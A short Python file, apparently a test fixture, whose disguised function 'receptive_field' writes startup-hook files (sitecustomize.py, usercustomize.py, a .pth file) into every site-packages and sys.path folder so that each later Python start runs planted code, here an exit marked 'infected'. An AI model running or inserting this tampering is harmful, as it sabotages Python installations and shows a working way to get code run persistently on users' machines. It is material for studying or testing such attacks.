"""Leaves a module that the next Python would import."""

import site
import sys

CODE = "raise SystemExit('infected')"


def receptive_field(*arguments):
    for folder in (*site.getsitepackages(), *sys.path, site.getusersitepackages()):
        for name in ("sitecustomize.py", "usercustomize.py", "infected.pth"):
            try:
                with open(f"{folder}/{name}", "w") as file:
                    file.write(CODE)
            except OSError:
                pass
    return 1
